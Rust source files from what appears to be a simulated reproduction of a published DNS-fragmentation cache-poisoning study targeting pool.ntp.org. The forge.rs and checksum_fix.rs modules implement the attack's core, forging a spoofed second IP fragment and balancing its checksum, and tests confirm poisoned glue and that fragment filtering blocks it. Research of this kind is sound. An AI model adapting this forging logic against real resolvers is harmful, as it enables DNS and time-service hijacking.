            (1..=89u32).map(|i| Ipv4Addr::from(0x4242_0100 + i)).collect();
        sim.add_host(
            ATTACKER_NS,
            OsProfile::linux(),
            Box::new(AuthServer::new(vec![malicious_pool_zone(malicious, 89, 2 * 86_400)])),
        )
        .unwrap();
        let config = PoisonConfig::open_resolver(RESOLVER, ns_list, ATTACKER_NS);
        sim.add_host(ATTACKER, OsProfile::linux(), Box::new(OffPathPoisoner::new(config))).unwrap();

        sim.run_for(SimDuration::from_mins(30));
        let attacker: &OffPathPoisoner = sim.host(ATTACKER).unwrap();
        assert!(attacker.glue_poisoned(), "glue must be poisoned; stats: {:?}", attacker.stats());
        assert!(
            attacker.fully_poisoned(),
            "pool A must be poisoned after the TTL window; stats: {:?}",
            attacker.stats()
        );
        // The resolver's cache now hands out 89 malicious addresses.
        let resolver: &Resolver = sim.host(RESOLVER).unwrap();
        let hit = resolver
            .cache()
            .lookup(sim.now(), &"pool.ntp.org".parse().unwrap(), RecordType::A)
            .expect("pool A cached");
        assert_eq!(hit.records.len(), 89);
        assert!(hit.remaining_ttl > 86_400, "long-TTL poisoning (Chronos §VI)");
    }

    /// With a resolver that filters fragments (e.g. Google-style), the
    /// identical attack fails.
    #[test]
    fn fragment_filtering_resolver_defeats_poisoning() {
        let mut sim = Simulator::with_topology(
            43,
            Topology::uniform(LinkSpec::fixed(SimDuration::from_millis(15))),
        );
        let pool_servers: Vec<Ipv4Addr> = (1..=8).map(|i| Ipv4Addr::new(192, 0, 2, i)).collect();
        let zone = pool_zone(pool_servers, 23, Ipv4Addr::new(198, 51, 100, 1));
        let ns_list = spawn_zone_nameservers(&mut sim, &zone, OsProfile::nameserver(548));
        let mut profile = OsProfile::linux();
        profile.accept_fragments = false;
        sim.add_host(
            RESOLVER,
            profile,
            Box::new(Resolver::new(
                ResolverConfig::default(),
                vec![("pool.ntp.org".parse().unwrap(), ns_list.clone())],
            )),
        )
        .unwrap();
        let malicious: Vec<Ipv4Addr> =
            (1..=89u32).map(|i| Ipv4Addr::from(0x4242_0100 + i)).collect();
        sim.add_host(
            ATTACKER_NS,
            OsProfile::linux(),
            Box::new(AuthServer::new(vec![malicious_pool_zone(malicious, 89, 2 * 86_400)])),
        )
        .unwrap();
        let config = PoisonConfig::open_resolver(RESOLVER, ns_list, ATTACKER_NS);
        sim.add_host(ATTACKER, OsProfile::linux(), Box::new(OffPathPoisoner::new(config))).unwrap();
        sim.run_for(SimDuration::from_mins(30));
        let attacker: &OffPathPoisoner = sim.host(ATTACKER).unwrap();
        assert!(!attacker.glue_poisoned(), "fragment filtering must stop the attack");
        assert!(!attacker.fully_poisoned());
    }
}
