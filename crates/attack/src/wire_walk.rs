//! Offset-preserving walk over an encoded DNS response.
//!
//! The fragment forger needs to know *where in the byte stream* each record
//! field sits — which glue addresses fall into the second fragment, where a
//! TTL can serve as checksum slack. This walker parses the wire format
//! without building a full [`dns::message::Message`], reporting byte spans.

use dns::error::DnsError;
use dns::name::Name;
use dns::record::RecordType;

/// Which message section a record came from.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Section {
    /// Answer section.
    Answer,
    /// Authority section.
    Authority,
    /// Additional section.
    Additional,
}

/// The byte layout of one resource record within the message.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RecordSpan {
    /// Owner name (decoded through compression pointers).
    pub name: Name,
    /// Record type.
    pub rtype: RecordType,
    /// Section the record belongs to.
    pub section: Section,
    /// Byte offset of the record's start (owner name).
    pub record_offset: usize,
    /// Byte offset of the 4-byte TTL field.
    pub ttl_offset: usize,
    /// Byte offset of the RDATA.
    pub rdata_offset: usize,
    /// RDATA length in bytes.
    pub rdata_len: usize,
}

/// Walks all records of an encoded DNS message, in order.
///
/// # Errors
///
/// Returns [`DnsError`] on malformed input.
pub fn walk_records(dns_bytes: &[u8]) -> Result<Vec<RecordSpan>, DnsError> {
    if dns_bytes.len() < 12 {
        return Err(DnsError::Truncated { context: "header" });
    }
    let qdcount = u16::from_be_bytes([dns_bytes[4], dns_bytes[5]]);
    let ancount = u16::from_be_bytes([dns_bytes[6], dns_bytes[7]]);
    let nscount = u16::from_be_bytes([dns_bytes[8], dns_bytes[9]]);
    let arcount = u16::from_be_bytes([dns_bytes[10], dns_bytes[11]]);
    let mut pos = 12usize;
    for _ in 0..qdcount {
        pos = skip_name(dns_bytes, pos)?;
        pos += 4; // qtype + qclass
    }
    let mut spans = Vec::new();
    let sections =
        [(Section::Answer, ancount), (Section::Authority, nscount), (Section::Additional, arcount)];
    for (section, count) in sections {
        for _ in 0..count {
            let record_offset = pos;
            let (name, after_name) = read_name(dns_bytes, pos)?;
            pos = after_name;
            if pos + 10 > dns_bytes.len() {
                return Err(DnsError::Truncated { context: "record fixed fields" });
            }
            let rtype =
                RecordType::from_code(u16::from_be_bytes([dns_bytes[pos], dns_bytes[pos + 1]]));
            let ttl_offset = pos + 4;
            let rdata_len =
                usize::from(u16::from_be_bytes([dns_bytes[pos + 8], dns_bytes[pos + 9]]));
            let rdata_offset = pos + 10;
            if rdata_offset + rdata_len > dns_bytes.len() {
                return Err(DnsError::Truncated { context: "rdata" });
            }
            pos = rdata_offset + rdata_len;
            spans.push(RecordSpan {
                name,
                rtype,
                section,
                record_offset,
                ttl_offset,
                rdata_offset,
                rdata_len,
            });
        }
    }
    Ok(spans)
}

/// Skips a (possibly compressed) name, returning the position after it.
fn skip_name(data: &[u8], mut pos: usize) -> Result<usize, DnsError> {
    loop {
        let len = *data.get(pos).ok_or(DnsError::Truncated { context: "name" })?;
        if len & 0xC0 == 0xC0 {
            return Ok(pos + 2);
        }
        if len == 0 {
            return Ok(pos + 1);
        }
        pos += 1 + usize::from(len);
    }
}

/// Reads a (possibly compressed) name, returning it and the position after
/// the in-stream representation.
fn read_name(data: &[u8], start: usize) -> Result<(Name, usize), DnsError> {
    let mut labels: Vec<String> = Vec::new();
    let mut pos = start;
    let mut after = None;
    let mut hops = 0;
    loop {
        let len = *data.get(pos).ok_or(DnsError::Truncated { context: "name" })?;
        if len & 0xC0 == 0xC0 {
            let lo = *data.get(pos + 1).ok_or(DnsError::Truncated { context: "pointer" })?;
            if after.is_none() {
                after = Some(pos + 2);
            }
            hops += 1;
            if hops > 32 {
                return Err(DnsError::BadPointer);
            }
            pos = usize::from(u16::from_be_bytes([len & 0x3F, lo]));
        } else if len == 0 {
            pos += 1;
            break;
        } else {
            let n = usize::from(len);
            if pos + 1 + n > data.len() {
                return Err(DnsError::Truncated { context: "label" });
            }
            labels.push(String::from_utf8_lossy(&data[pos + 1..pos + 1 + n]).into_owned());
            pos += 1 + n;
        }
    }
    Ok((Name::from_labels(labels)?, after.unwrap_or(pos)))
}

/// Convenience: the glue A records (additional-section A records) of a
/// response, in order.
pub fn glue_spans(spans: &[RecordSpan]) -> Vec<&RecordSpan> {
    spans.iter().filter(|s| s.section == Section::Additional && s.rtype == RecordType::A).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use dns::prelude::*;
    use rand::rngs::SmallRng;
    use rand::SeedableRng;
    use std::net::Ipv4Addr;

    fn sample_response() -> (Message, Vec<u8>) {
        let servers: Vec<Ipv4Addr> = (1..=8).map(|i| Ipv4Addr::new(192, 0, 2, i)).collect();
        let zone = pool_zone(servers, 23, Ipv4Addr::new(198, 51, 100, 1));
        let mut srv = AuthServer::new(vec![zone]);
        let query = Message::query(7, "pool.ntp.org".parse().unwrap(), RecordType::A, false);
        let resp = srv.answer(&query, &mut SmallRng::seed_from_u64(5));
        let wire = resp.encode().unwrap().to_vec();
        (resp, wire)
    }

    #[test]
    fn walk_finds_all_records_in_order() {
        let (resp, wire) = sample_response();
        let spans = walk_records(&wire).unwrap();
        assert_eq!(
            spans.len(),
            resp.answers.len() + resp.authorities.len() + resp.additionals.len()
        );
        assert_eq!(spans.iter().filter(|s| s.section == Section::Answer).count(), 4);
        assert_eq!(glue_spans(&spans).len(), 23);
        // Offsets are strictly increasing.
        for pair in spans.windows(2) {
            assert!(pair[0].record_offset < pair[1].record_offset);
        }
    }

    #[test]
    fn rdata_offsets_point_at_the_actual_addresses() {
        let (resp, wire) = sample_response();
        let spans = walk_records(&wire).unwrap();
        for (span, record) in glue_spans(&spans).iter().zip(&resp.additionals) {
            assert_eq!(span.name, record.name);
            let addr = Ipv4Addr::new(
                wire[span.rdata_offset],
                wire[span.rdata_offset + 1],
                wire[span.rdata_offset + 2],
                wire[span.rdata_offset + 3],
            );
            assert_eq!(Some(addr), record.as_a());
        }
    }

    #[test]
    fn ttl_offsets_point_at_ttls() {
        let (_, wire) = sample_response();
        let spans = walk_records(&wire).unwrap();
        for span in glue_spans(&spans) {
            let ttl = u32::from_be_bytes([
                wire[span.ttl_offset],
                wire[span.ttl_offset + 1],
                wire[span.ttl_offset + 2],
                wire[span.ttl_offset + 3],
            ]);
            assert_eq!(ttl, 3600);
        }
    }

    #[test]
    fn truncated_input_is_an_error() {
        let (_, wire) = sample_response();
        assert!(walk_records(&wire[..wire.len() - 3]).is_err());
        assert!(walk_records(&wire[..8]).is_err());
    }

    #[test]
    fn glue_lands_beyond_the_fragment_split() {
        // The attack's layout precondition: at MTU 548 the first fragment
        // carries 528 IP-payload bytes = 8 UDP header + 520 DNS bytes; all
        // glue RDATA must sit at DNS offset ≥ 520.
        let (_, wire) = sample_response();
        let spans = walk_records(&wire).unwrap();
        let first_glue = glue_spans(&spans)[0];
        assert!(
            first_glue.rdata_offset >= 520,
            "first glue rdata at {} must be ≥ 520",
            first_glue.rdata_offset
        );
    }
}
