//! The UDP checksum fix-up of paper §III-3.
//!
//! The UDP checksum field travels in the **first** fragment, which the
//! off-path attacker cannot modify. The spoofed second fragment therefore
//! must keep the ones'-complement sum of its bytes identical to the
//! original's: `f2' = f2* − (sum1(f2*) − sum1(f2))`, realised by writing a
//! computed 16-bit value into a sacrificial ("slack") word of the modified
//! fragment.

use core::fmt;

use netsim::checksum::{oc_sub, ones_complement_sum};

/// Errors from the fix-up.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FixError {
    /// The slack offset is odd — it would straddle two 16-bit words.
    UnalignedSlack {
        /// The offending offset.
        offset: usize,
    },
    /// The slack word lies outside the fragment.
    SlackOutOfRange {
        /// The offending offset.
        offset: usize,
        /// Fragment length.
        len: usize,
    },
}

impl fmt::Display for FixError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            FixError::UnalignedSlack { offset } => {
                write!(f, "slack offset {offset} is not 16-bit aligned")
            }
            FixError::SlackOutOfRange { offset, len } => {
                write!(f, "slack offset {offset} outside fragment of {len} bytes")
            }
        }
    }
}

impl std::error::Error for FixError {}

/// Adjusts `modified` (in place) so that its ones'-complement sum equals
/// `original`'s, by writing the required value into the 16-bit word at
/// `slack_offset`. Both buffers must start at the same (even) offset within
/// the original datagram, which holds for IPv4 fragments (8-byte aligned).
///
/// # Errors
///
/// Returns [`FixError`] if the slack word is unaligned or out of range.
pub fn fix_fragment_sum(
    original: &[u8],
    modified: &mut [u8],
    slack_offset: usize,
) -> Result<(), FixError> {
    if !slack_offset.is_multiple_of(2) {
        return Err(FixError::UnalignedSlack { offset: slack_offset });
    }
    if slack_offset + 2 > modified.len() {
        return Err(FixError::SlackOutOfRange { offset: slack_offset, len: modified.len() });
    }
    modified[slack_offset] = 0;
    modified[slack_offset + 1] = 0;
    let target = ones_complement_sum(original);
    let current = ones_complement_sum(modified);
    let fix = oc_sub(target, current);
    modified[slack_offset..slack_offset + 2].copy_from_slice(&fix.to_be_bytes());
    Ok(())
}

/// True if two byte strings have equal ones'-complement sums (up to the
/// 0x0000/0xFFFF zero ambiguity) — the property a fixed fragment satisfies.
pub fn sums_match(a: &[u8], b: &[u8]) -> bool {
    let (sa, sb) = (ones_complement_sum(a), ones_complement_sum(b));
    sa == sb || (sa == 0 && sb == 0xFFFF) || (sa == 0xFFFF && sb == 0)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn fix_restores_sum_after_edit() {
        let original: Vec<u8> = (0..64u8).collect();
        let mut modified = original.clone();
        // Attacker replaces bytes 10..14 (a glue address).
        modified[10..14].copy_from_slice(&[6, 6, 6, 6]);
        fix_fragment_sum(&original, &mut modified, 40).unwrap();
        assert!(sums_match(&original, &modified));
        assert_eq!(&modified[10..14], &[6, 6, 6, 6], "edit survives the fix");
    }

    #[test]
    fn odd_offset_rejected() {
        let original = [0u8; 16];
        let mut modified = [0u8; 16];
        assert_eq!(
            fix_fragment_sum(&original, &mut modified, 3),
            Err(FixError::UnalignedSlack { offset: 3 })
        );
    }

    #[test]
    fn out_of_range_rejected() {
        let original = [0u8; 16];
        let mut modified = [0u8; 16];
        assert_eq!(
            fix_fragment_sum(&original, &mut modified, 16),
            Err(FixError::SlackOutOfRange { offset: 16, len: 16 })
        );
    }

    proptest! {
        /// The paper's identity: for any original fragment, any set of
        /// byte edits, and any aligned slack word, the fix-up equalises the
        /// ones'-complement sums — so the UDP checksum in fragment 1 keeps
        /// verifying.
        #[test]
        fn fix_always_equalises(
            original in proptest::collection::vec(any::<u8>(), 8..256),
            edits in proptest::collection::vec((any::<usize>(), any::<u8>()), 0..16),
            slack_word in any::<usize>(),
        ) {
            let mut modified = original.clone();
            for (pos, val) in edits {
                let idx = pos % modified.len();
                modified[idx] = val;
            }
            let slack = (slack_word % (modified.len() / 2)) * 2;
            fix_fragment_sum(&original, &mut modified, slack).unwrap();
            prop_assert!(sums_match(&original, &modified));
        }
    }
}
