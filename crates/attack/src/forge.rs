//! Forging the spoofed second fragment (paper §III-2 and §III-3).
//!
//! Input: the *observed* DNS response bytes (the attacker queries the
//! nameserver itself — the authority/additional tail is stable across
//! queries, only the rotating answer records differ and those live in the
//! first fragment). The forger:
//!
//! 1. computes where the response fragments at the forced MTU;
//! 2. rewrites every glue A address that falls inside the second fragment
//!    to the attacker's nameserver address — except one sacrificial glue
//!    record whose RDATA becomes the checksum slack;
//! 3. fixes the ones'-complement sum so the UDP checksum (in fragment 1,
//!    which the attacker cannot touch) still verifies after reassembly;
//! 4. emits one spoofed fragment per candidate IPID.

use core::fmt;
use std::net::Ipv4Addr;

use bytes::Bytes;
use netsim::ipv4::{Ipv4Packet, IPV4_HEADER_LEN, PROTO_UDP};
use netsim::udp::UDP_HEADER_LEN;

use crate::checksum_fix::{fix_fragment_sum, FixError};
use crate::wire_walk::{glue_spans, walk_records, RecordSpan};

/// Errors from fragment forging.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ForgeError {
    /// The observed response would not fragment at this MTU.
    ResponseTooSmall {
        /// Response wire length (IP).
        len: usize,
        /// The MTU in force.
        mtu: u16,
    },
    /// No glue records fall inside the second fragment.
    NoGlueInTail,
    /// No aligned slack word available for the checksum fix.
    NoSlackCandidate,
    /// The response failed to parse.
    Malformed,
    /// Checksum fix failed.
    Fix(FixError),
}

impl fmt::Display for ForgeError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ForgeError::ResponseTooSmall { len, mtu } => {
                write!(f, "response of {len} bytes does not fragment at mtu {mtu}")
            }
            ForgeError::NoGlueInTail => write!(f, "no glue records in the second fragment"),
            ForgeError::NoSlackCandidate => write!(f, "no aligned slack word available"),
            ForgeError::Malformed => write!(f, "observed response failed to parse"),
            ForgeError::Fix(e) => write!(f, "checksum fix failed: {e}"),
        }
    }
}

impl std::error::Error for ForgeError {}

impl From<FixError> for ForgeError {
    fn from(e: FixError) -> Self {
        ForgeError::Fix(e)
    }
}

/// The product of forging: the spoofed tail fragment(s) for one IPID plus
/// bookkeeping about what was poisoned.
#[derive(Debug, Clone)]
pub struct ForgedTail {
    /// IP-payload offset (bytes) where the second fragment starts.
    pub split: usize,
    /// The spoofed second-fragment payload (shared across IPIDs).
    pub payload: Bytes,
    /// Names of the glue records redirected to the attacker.
    pub poisoned_names: Vec<dns::name::Name>,
    /// The glue record sacrificed as checksum slack, if any.
    pub slack_name: Option<dns::name::Name>,
}

impl ForgedTail {
    /// Materialises the spoofed fragment for one candidate IPID, spoofing
    /// `nameserver` as the source towards `resolver`.
    pub fn fragment(&self, nameserver: Ipv4Addr, resolver: Ipv4Addr, ipid: u16) -> Ipv4Packet {
        Ipv4Packet {
            src: nameserver,
            dst: resolver,
            id: ipid,
            ttl: 64,
            protocol: PROTO_UDP,
            dont_fragment: false,
            more_fragments: false,
            frag_offset: (self.split / 8) as u16,
            payload: self.payload.clone(),
        }
    }

    /// Materialises fragments for a whole IPID window.
    pub fn fragments(
        &self,
        nameserver: Ipv4Addr,
        resolver: Ipv4Addr,
        ipids: &[u16],
    ) -> Vec<Ipv4Packet> {
        ipids.iter().map(|&id| self.fragment(nameserver, resolver, id)).collect()
    }
}

/// Number of IP-payload bytes carried by the first fragment at `mtu`.
pub fn first_fragment_payload(mtu: u16) -> usize {
    (usize::from(mtu) - IPV4_HEADER_LEN) & !7
}

/// Forges the spoofed tail from an observed response.
///
/// `observed_dns` is the DNS message payload the attacker received from its
/// own probe query; `mtu` the MTU it forced towards the resolver;
/// `attacker_ns` the address every reachable glue record is rewritten to.
///
/// # Errors
///
/// See [`ForgeError`].
pub fn forge_tail(
    observed_dns: &[u8],
    mtu: u16,
    attacker_ns: Ipv4Addr,
) -> Result<ForgedTail, ForgeError> {
    let udp_len = UDP_HEADER_LEN + observed_dns.len();
    let split = first_fragment_payload(mtu);
    if udp_len <= split {
        return Err(ForgeError::ResponseTooSmall { len: udp_len + IPV4_HEADER_LEN, mtu });
    }
    let spans = walk_records(observed_dns).map_err(|_| ForgeError::Malformed)?;
    // DNS byte offset d sits at IP-payload offset UDP_HEADER_LEN + d.
    let in_tail = |offset: usize, len: usize| {
        offset + UDP_HEADER_LEN >= split && offset + len <= observed_dns.len()
    };
    let glue: Vec<&RecordSpan> = glue_spans(&spans)
        .into_iter()
        .filter(|s| in_tail(s.rdata_offset, s.rdata_len) && s.rdata_len == 4)
        .collect();
    if glue.is_empty() {
        return Err(ForgeError::NoGlueInTail);
    }
    // Slack: the last glue record whose RDATA starts at an even IP-payload
    // offset (fragment sums pair bytes from the even split boundary).
    let slack =
        glue.iter().rev().find(|s| (s.rdata_offset + UDP_HEADER_LEN).is_multiple_of(2)).copied();
    let Some(slack) = slack else {
        return Err(ForgeError::NoSlackCandidate);
    };
    let mut modified = observed_dns.to_vec();
    let mut poisoned = Vec::new();
    for span in &glue {
        if span.rdata_offset == slack.rdata_offset {
            continue;
        }
        modified[span.rdata_offset..span.rdata_offset + 4].copy_from_slice(&attacker_ns.octets());
        poisoned.push(span.name.clone());
    }
    // Zero the slack address; the fix writes the equalising word into its
    // first two bytes (the remaining two stay zero).
    modified[slack.rdata_offset..slack.rdata_offset + 4].copy_from_slice(&[0, 0, 0, 0]);
    // Work in fragment-2 coordinates.
    let tail_start_dns = split - UDP_HEADER_LEN; // first DNS byte in frag 2
    let original_tail = &observed_dns[tail_start_dns..];
    let mut modified_tail = modified[tail_start_dns..].to_vec();
    let slack_in_tail = slack.rdata_offset - tail_start_dns;
    fix_fragment_sum(original_tail, &mut modified_tail, slack_in_tail)?;
    Ok(ForgedTail {
        split,
        payload: Bytes::from(modified_tail),
        poisoned_names: poisoned,
        slack_name: Some(slack.name.clone()),
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::checksum_fix::sums_match;
    use dns::prelude::*;
    use netsim::frag::{fragment, DefragCache, DefragConfig};
    use netsim::time::SimTime;
    use netsim::udp::UdpDatagram;
    use rand::rngs::SmallRng;
    use rand::SeedableRng;

    const NS: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 1);
    const RESOLVER: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 53);
    const ATTACKER_NS: Ipv4Addr = Ipv4Addr::new(66, 66, 66, 66);

    fn observed_response() -> Vec<u8> {
        let servers: Vec<Ipv4Addr> = (1..=8).map(|i| Ipv4Addr::new(192, 0, 2, i)).collect();
        let zone = pool_zone(servers, 23, NS);
        let mut srv = AuthServer::new(vec![zone]);
        let q = Message::query(0x999, "pool.ntp.org".parse().unwrap(), RecordType::A, false);
        srv.answer(&q, &mut SmallRng::seed_from_u64(3)).encode().unwrap().to_vec()
    }

    #[test]
    fn forged_tail_poisons_most_glue() {
        let dns_bytes = observed_response();
        let tail = forge_tail(&dns_bytes, 548, ATTACKER_NS).unwrap();
        assert!(tail.poisoned_names.len() >= 20, "poisoned {}", tail.poisoned_names.len());
        assert!(tail.slack_name.is_some());
        assert_eq!(tail.split % 8, 0);
    }

    #[test]
    fn forged_sum_matches_original_tail() {
        let dns_bytes = observed_response();
        let tail = forge_tail(&dns_bytes, 548, ATTACKER_NS).unwrap();
        let original_tail = &dns_bytes[tail.split - UDP_HEADER_LEN..];
        assert!(sums_match(original_tail, &tail.payload));
        assert_eq!(original_tail.len(), tail.payload.len(), "length must be unchanged");
    }

    /// End-to-end reassembly check: plant the spoofed fragment, deliver the
    /// real first fragment, and verify the reassembled datagram (a) passes
    /// the UDP checksum and (b) decodes to a response whose glue points at
    /// the attacker.
    #[test]
    fn reassembled_with_real_first_fragment_verifies_and_is_poisoned() {
        let dns_bytes = observed_response();
        // The real response as the NS would send it to the RESOLVER (new
        // TXID and rotation — answer section differs, tail identical).
        let servers: Vec<Ipv4Addr> = (1..=8).map(|i| Ipv4Addr::new(192, 0, 2, i)).collect();
        let zone = pool_zone(servers, 23, NS);
        let mut srv = AuthServer::new(vec![zone]);
        let victim_query =
            Message::query(0x1234, "pool.ntp.org".parse().unwrap(), RecordType::A, false);
        let victim_resp = srv.answer(&victim_query, &mut SmallRng::seed_from_u64(77));
        let victim_dns = victim_resp.encode().unwrap();
        let udp = UdpDatagram::new(53, 45_000, victim_dns.clone()).encode(NS, RESOLVER).unwrap();
        let full = Ipv4Packet::udp(NS, RESOLVER, 0x0F00, udp);
        let frags = fragment(full.clone(), 548).unwrap();
        assert_eq!(frags.len(), 2);

        // Attacker forges from its own (different) observation.
        let tail = forge_tail(&dns_bytes, 548, ATTACKER_NS).unwrap();
        let spoofed = tail.fragment(NS, RESOLVER, 0x0F00);

        // Resolver-side reassembly: spoofed fragment is planted first.
        let mut cache = DefragCache::new(DefragConfig::default());
        assert!(cache.insert(SimTime::ZERO, spoofed.clone()).is_none());
        let reassembled = cache
            .insert(SimTime::from_nanos(1), frags[0].clone())
            .expect("first real fragment completes with planted tail");

        // (a) UDP checksum verifies despite the tampering.
        let dgram = UdpDatagram::decode(&reassembled.payload, NS, RESOLVER)
            .expect("checksum must verify after the fix-up");
        // (b) The DNS payload decodes; glue now points at the attacker.
        let msg = Message::decode(&dgram.payload).expect("DNS decodes");
        assert_eq!(msg.header.id, 0x1234, "victim TXID preserved (fragment 1)");
        let glue_addrs: Vec<Ipv4Addr> = msg.additionals.iter().filter_map(|r| r.as_a()).collect();
        let poisoned = glue_addrs.iter().filter(|a| **a == ATTACKER_NS).count();
        assert!(poisoned >= 20, "poisoned glue count {poisoned}");
        // The answer section (fragment 1) is the *real* rotation.
        assert_eq!(msg.answers.len(), 4);
        assert!(msg
            .answers
            .iter()
            .all(|r| r.as_a().map(|a| a.octets()[0] == 192).unwrap_or(false)));
    }

    #[test]
    fn wrong_ipid_fails_to_reassemble() {
        let dns_bytes = observed_response();
        let servers: Vec<Ipv4Addr> = (1..=8).map(|i| Ipv4Addr::new(192, 0, 2, i)).collect();
        let zone = pool_zone(servers, 23, NS);
        let mut srv = AuthServer::new(vec![zone]);
        let victim_query = Message::query(5, "pool.ntp.org".parse().unwrap(), RecordType::A, false);
        let victim_dns =
            srv.answer(&victim_query, &mut SmallRng::seed_from_u64(7)).encode().unwrap();
        let udp = UdpDatagram::new(53, 45000, victim_dns).encode(NS, RESOLVER).unwrap();
        let full = Ipv4Packet::udp(NS, RESOLVER, 0x0F00, udp);
        let frags = fragment(full.clone(), 548).unwrap();

        let tail = forge_tail(&dns_bytes, 548, ATTACKER_NS).unwrap();
        let spoofed = tail.fragment(NS, RESOLVER, 0x0E00); // mispredicted
        let mut cache = DefragCache::new(DefragConfig::default());
        cache.insert(SimTime::ZERO, spoofed.clone());
        assert!(cache.insert(SimTime::from_nanos(1), frags[0].clone()).is_none());
        // The real second fragment completes it cleanly instead.
        let reassembled = cache.insert(SimTime::from_nanos(2), frags[1].clone()).unwrap();
        let dgram = UdpDatagram::decode(&reassembled.payload, NS, RESOLVER).unwrap();
        let msg = Message::decode(&dgram.payload).unwrap();
        assert!(msg.additionals.iter().filter_map(|r| r.as_a()).all(|a| a != ATTACKER_NS));
    }

    #[test]
    fn small_response_cannot_be_attacked() {
        let dns_bytes = observed_response();
        let err = forge_tail(&dns_bytes[..100.min(dns_bytes.len())], 548, ATTACKER_NS);
        assert!(err.is_err());
    }

    #[test]
    fn window_of_fragments_materialises() {
        let dns_bytes = observed_response();
        let tail = forge_tail(&dns_bytes, 548, ATTACKER_NS).unwrap();
        let ipids: Vec<u16> = (0x100..0x110).collect();
        let frags = tail.fragments(NS, RESOLVER, &ipids);
        assert_eq!(frags.len(), 16);
        assert!(frags.iter().all(|f| f.src == NS && f.dst == RESOLVER && f.is_fragment()));
    }
}
