//! # measure — synthetic populations and measurement scanners
//!
//! Reproduces the attack-surface studies of *"The Impact of DNS Insecurity
//! on Time"* (DSN 2020) against seeded synthetic populations:
//!
//! * [`population`] — population models calibrated to the paper's
//!   published aggregates (their parameters), probed by the scanners
//!   below (which re-derive the aggregates through the actual protocol
//!   exchanges — validating the methodology, not echoing inputs);
//! * [`ratelimit`] — §VII-A: 64-queries-at-1 Hz scan with the
//!   first-half/second-half detection heuristic (38 % rate limit, 33 %
//!   KoD) and the mode-6 config-interface probe (5.3 %);
//! * [`pmtud`] — Fig. 5 / §VII-B: forced-fragmentation floors and DNSSEC
//!   presence of domain nameservers (83.2 % ≤ 548 B; 16/30 pool NS);
//! * [`snoop`] — Table IV / Fig. 6 / Fig. 7: RD=0 cache snooping with the
//!   verification protocol, TTL distribution of cached pool records, and
//!   the (unusable) latency side channel;
//! * [`adstudy`] — Table V: the seven-image test page measuring fragment
//!   acceptance and DNSSEC validation per region and device class;
//! * [`shared`] — §VIII-B3: open/SMTP-shared resolver discovery via
//!   direct queries, port scans and bounce-triggered lookups;
//! * [`fragns`] — the study's always-fragmenting test nameserver.

#![warn(missing_docs)]

// The per-index seed scheme lives in the `runner` crate (below both this
// crate and `timeshift`) so every sweep in the workspace shares it; the
// historic `measure::scan_seed` path keeps working.
pub use runner::scan_seed;

pub mod adstudy;
pub mod fragns;
pub mod pmtud;
pub mod population;
pub mod ratelimit;
pub mod shared;
pub mod snoop;

/// Commonly used types.
pub mod prelude {
    pub use crate::adstudy::{run_client, run_study, AdStudyResult, ClientResult, Table5Row};
    pub use crate::fragns::FragmentingNs;
    pub use crate::pmtud::{
        run_scan as run_pmtud_scan, scan_nameserver, PmtudScanResult, PmtudVerdict, CDF_THRESHOLDS,
    };
    pub use crate::population::{
        ad_client_at, ad_client_count, ad_clients, ad_clients_scaled, domain_nameserver_at,
        domain_nameservers, open_resolver_at, open_resolvers, pool_nameservers, pool_server_at,
        pool_servers, shared_resolver_at, shared_resolvers, AdClientSpec, NameserverSpec,
        OpenResolverSpec, PoolServerSpec, Region, SharedResolverSpec, POOL_SCAN_SIZE,
        SHARED_STUDY_SIZE,
    };
    pub use crate::ratelimit::{
        run_scan as run_ratelimit_scan, scan_server, RateLimitScanResult, ServerVerdict,
    };
    pub use crate::scan_seed;
    pub use crate::shared::{run_scan as run_shared_scan, SharedScanResult};
    pub use crate::snoop::{
        probed_records, run_survey, scan_resolver, ResolverOutcome, SurveyResult,
    };
}
