//! Seeded synthetic populations calibrated to the paper's published
//! aggregates.
//!
//! Every population is drawn from a seeded RNG so experiments are
//! reproducible; the *parameters* (marginal fractions) come straight from
//! the paper's measurements, and the scanners then re-derive those
//! aggregates by actually probing the synthetic hosts — validating the
//! measurement methodology, not just echoing inputs.
//!
//! **Lazy per-index generation.** Every population item is a pure function
//! of `(seed, index)` — each item draws from its own splitmix-derived RNG
//! stream (see `item_rng`), never from a shared sequential stream. The
//! `*_at(seed, idx)` accessors therefore produce item `idx` in O(1) work
//! and memory, which is what lets the campaign layer run the paper's
//! 1 583 045-resolver survey without ever materializing a `Vec` of specs;
//! the `Vec`-returning functions are thin `(0..n).map(..)` wrappers kept
//! for the in-process drivers. Where a population assigns exact per-class
//! quotas (Table V), class membership at an index comes from a seeded
//! Feistel permutation (`permute_index`) instead of a materialized
//! Fisher–Yates shuffle — exact quotas, position-uncorrelated, still O(1)
//! per index.

use rand::rngs::SmallRng;
use rand::{RngExt, SeedableRng};
use serde::Serialize;

/// The RNG for population item `idx` under `seed`: its own deterministic
/// stream, fully decorrelated from neighbouring indices by the splitmix64
/// finalizer. Pure function of `(seed, idx)`.
fn item_rng(seed: u64, idx: usize) -> SmallRng {
    SmallRng::seed_from_u64(runner::mix64(runner::scan_seed(seed, idx)))
}

/// A deterministic pseudorandom permutation of `0..n`: maps `idx` to a
/// unique position, seeded, in O(1) time and memory. Implemented as a
/// 4-round Feistel network over the smallest even-bit-width domain
/// covering `n`, cycle-walked back into range (the walk follows the
/// permutation's own cycle, so it terminates and stays bijective on
/// `0..n`; the domain is < 4n, so the expected walk is short).
fn permute_index(n: usize, seed: u64, idx: usize) -> usize {
    debug_assert!(idx < n);
    if n <= 1 {
        return idx;
    }
    let bits = (usize::BITS - (n - 1).leading_zeros() + 1) & !1;
    let half = bits / 2;
    let mask: u64 = (1u64 << half) - 1;
    let mut x = idx as u64;
    loop {
        for round in 0..4u64 {
            let (l, r) = (x >> half, x & mask);
            let f = runner::mix64(r ^ runner::mix64(seed ^ (round << 8))) & mask;
            x = (r << half) | (l ^ f);
        }
